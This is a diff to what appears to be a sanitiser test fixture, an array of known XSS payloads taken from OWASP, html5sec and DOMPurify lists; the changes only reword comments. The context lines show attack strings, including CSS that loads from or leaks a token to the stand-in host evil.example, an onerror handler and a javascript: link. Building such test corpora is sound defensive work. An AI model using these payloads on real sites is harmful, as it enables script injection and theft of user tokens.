@@ -1,7 +1,7 @@
 /**
- * What is known to have broken sanitisers, as data: the classes of the lists that OWASP (filter evasion), html5sec and the
- * fixtures of DOMPurify publish. Scripts in every coat, handlers, addresses, raw text, foreign content, mutation,
- * clobbering, styles, and markup that never ends.
+ * Payloads known to have broken sanitisers: the classes of the lists that OWASP (filter evasion), html5sec and the
+ * fixtures of DOMPurify publish. Disguised scripts, handlers, URLs, raw text, foreign content, mutation, clobbering,
+ * styles, and unclosed markup.
  */
 export const ATTACKS: readonly string[] = [
   // Scripts
@@ -155,7 +155,7 @@ export const ATTACKS: readonly string[] = [
   '<style>@import "//evil.example/x.css";</style>',
   '<style>*{background:url(//evil.example?token)}</style>',
   '<xss style="behavior:url(x.htc)">x</xss>',
-  // What never ends, or is no markup at all
+  // Unclosed markup, and text that is not markup
   '<img src=x onerror=alert(1)',
   '<a href="javascript:alert(1)',
   "<p title='",
